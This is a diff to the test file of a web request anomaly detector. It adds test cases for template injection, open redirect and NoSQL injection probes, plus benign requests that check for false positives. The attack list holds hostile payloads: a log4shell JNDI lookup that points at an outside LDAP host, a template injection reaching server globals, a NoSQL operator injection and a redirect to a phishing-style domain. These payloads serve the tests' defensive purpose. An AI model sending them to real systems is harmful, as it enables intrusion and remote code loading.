@@ -30,6 +30,10 @@ describe("generic model", () => {
     ["log4shell in a header", get("/", "User-Agent: ${jndi:ldap://198.51.100.7:1389/a}"), "log4shell", "header.user-agent"],
     ["ssti", get("/hello?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"), "ssti", "query.name"],
     ["scanner probe", get("/.git/config"), "scanner", "path"],
+    // Short probes, without a site model to help.
+    ["a short template probe", get("/search?q={{7*7}}"), "ssti", "query.q"],
+    ["a protocol-relative redirect", get("/go?url=//phish.example.net"), "open-redirect", "query.url"],
+    ["a NoSQL operator", get("/items?filter=%7B%22%24ne%22%3Anull%7D"), "nosqli", "query.filter"],
   ];
   for (const [what, request, cls, field] of attacks) {
     test(`flags ${what}, names the class and points at the field`, async () => {
@@ -55,6 +59,8 @@ describe("generic model", () => {
       get("/collect?v=2&tid=G-ABC123&cid=1234567890.1700000000&dl=https%3A%2F%2Fshop.test%2Fcart&dt=Cart%20%E2%80%93%20Shop&sr=1920x1080"),
       get("/profile?name=O%27Brien&bio=rock+%27n%27+roll+fan"),
       get("/static/js/app.3f9a2c.js?v=1.2.3"),
+      get("/landing?ref=https%3A%2F%2Fwww.google.com%2F&utm_content=%7B%7Bfirst_name%7D%7D"),
+      get("/login?next=/account/orders"),
     ];
     const verdicts = await detector.judge(benign);
     expect(verdicts.map((v) => v.isAnomaly)).toEqual(benign.map(() => false));
